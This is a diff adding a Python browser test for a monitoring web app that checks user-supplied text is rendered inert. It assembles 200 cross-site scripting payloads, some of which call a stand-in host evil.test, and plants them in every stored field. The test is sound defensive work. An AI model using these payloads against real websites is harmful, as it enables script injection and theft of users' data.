@@ -1,0 +1,126 @@
+"""Text of users stays text: no script runs, no rule is broken, nothing leaves the page."""
+
+from collections.abc import Callable
+from datetime import UTC, datetime
+
+from sqlalchemy import Connection
+
+from monitor.domain import Severity, Verdict, VerdictKind, Version
+from monitor.store import adapters, evaluations, outbox, partitions, verdicts, versions
+from tests import worlds
+from tests.serving import Serving
+from tests.web.conftest import Looker
+
+# Heads and tails of the usual cheat sheets; each pair is one way out of one context.
+ACTIONS = ("alert(1)", "confirm`1`", "window.pwned=1", "fetch('//evil.test')", "print()")
+FRAMES = (
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg/onload={}>",
+    "<svg><script>{}</script></svg>",
+    '"><script>{}</script>',
+    "' onmouseover={} x='",
+    '" autofocus onfocus={} x="',
+    "javascript:{}",
+    "<a href=javascript:{}>x</a>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<style>@import'//evil.test/{}'</style>",
+    "<link rel=stylesheet href=//evil.test/{}>",
+    "<meta http-equiv=refresh content=0;url=javascript:{}>",
+    "<math><mtext></p><img src onerror={}>",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "{{% include '{}' %}}",
+    "${{{}}}",
+    "<b style=background:url(//evil.test/{})>x</b>",
+    "<details open ontoggle={}>",
+    "<body onload={}>",
+    "<video><source onerror={}>",
+    "<form action=//evil.test><button autofocus>{}",
+    "<base href=//evil.test/>{}",
+    "<object data=//evil.test/{}>",
+    "<template><script>{}</script></template>",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "\u202e<script>{}</script>",
+    "\x1b]0;{}\x07<x>",
+    "<!--><script>{}</script>",
+    "]]><script>{}</script>",
+    "<scr\tipt>{}</scr\tipt>",
+    "<a href='data:text/html,<script>{}</script>'>x</a>",
+    '<noscript><p title="</noscript><img src onerror={}>">',
+    "\u2028</title><script>{}</script>",
+    "<input autofocus onfocus={}>",
+    "%3Cscript%3E{}%3C/script%3E",
+    "<img src=//evil.test/{}>",
+    "<image href=x onerror={} />",
+    "<a xlink:href=javascript:{}>x</a>",
+)
+PAYLOADS = [frame.format(action) for frame in FRAMES for action in ACTIONS]
+
+
+def _hostile(tx: Connection, payload: str) -> Version:
+    name = payload[:128]
+    adapter = adapters.put(
+        tx,
+        name=name,
+        owner=payload,
+        tier=payload,
+        labels={payload: payload},
+        runbook=payload,
+    )
+    version = versions.put(
+        tx, adapter=adapter, name=name, model=payload, metadata={payload: payload}
+    )
+    verdict = Verdict(
+        kind=VerdictKind.CRITICAL,
+        severity=Severity.PAGE,
+        reason=payload,
+        detectors=(payload,),
+        since=datetime.now(UTC),
+    )
+    worlds._judge(tx, version, verdict, drift=50.0)
+    worlds._change(tx, version, before=VerdictKind.STABLE, after=verdict, at=datetime.now(UTC))
+    worlds._reference(tx, version, now=datetime.now(UTC))
+    worlds.table.start(tx, version, actor=payload, now=datetime.now(UTC))
+    worlds._incident(tx, version, verdict)
+    return version
+
+
+def test_two_hundred_payloads_in_every_field_stay_text(
+    service: Serving, look: Callable[..., Looker]
+) -> None:
+    assert len(PAYLOADS) == 200
+    now = datetime.now(UTC)
+    with service.database.begin() as tx:
+        partitions.ensure(tx, [now.date()], tables=["scores"])
+        made = [_hostile(tx, payload.replace("\x00", "")) for payload in PAYLOADS]
+    looker = look()
+    looker.log_in()
+    shown = looker.page.inner_text("tbody")
+    assert "<script>alert(1)</script>" in shown
+    assert "\\u202e" in shown
+    _calm(looker)
+    for version in made[:: len(ACTIONS)]:  # one page for each frame
+        _everything(service, version, now=now)
+        looker.open_chart(f"/adapters/{worlds.path_part(version.adapter)}")
+        _calm(looker)
+
+
+def _everything(service: Serving, version: Version, *, now: datetime) -> None:
+    text = version.adapter
+    score = worlds._score(version, text, now, value=1.0, notice=1.0, page=1.0, effect=0.5)
+    with service.database.begin() as tx:
+        evaluations.put_scores(tx, [score])
+        (incident,) = worlds.incidents.incident_list(tx, adapter_id=version.adapter_id)
+        alert = {"status": text, "summary": text}
+        outbox.enqueue(tx, channel=text, alert=alert, incident_id=incident.id)
+        verdicts.history(tx, adapter_id=version.adapter_id, since=now)
+
+
+def _calm(looker: Looker) -> None:
+    assert looker.dialogs == []
+    assert looker.complaints == []
+    assert looker.foreign == []
+    assert looker.page.evaluate("window.pwned") is None
+    inside = "[...document.querySelectorAll('script')].every((s) => s.src.includes('/assets/'))"
+    assert looker.page.evaluate(inside)
